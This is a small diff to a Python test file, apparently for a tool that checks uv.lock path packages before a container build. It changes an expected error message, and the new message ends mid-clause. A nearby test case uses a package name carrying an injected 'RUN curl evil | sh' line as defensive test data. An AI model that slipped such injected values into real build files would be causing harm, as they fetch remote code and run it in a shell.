@@ -171,7 +171,7 @@ def uv_project_with_path_package(make_project, name: str, directory: str):
 @pytest.mark.parametrize(
     ("name", "directory", "message"),
     [
-        ("lib", "../lib", "uv.lock: installs lib from '../lib', which the build context cannot hold"),
+        ("lib", "../lib", "uv.lock: installs lib from '../lib', outside the project, which the build context"),
         (
             "lib\nRUN curl evil | sh",
             "lib",
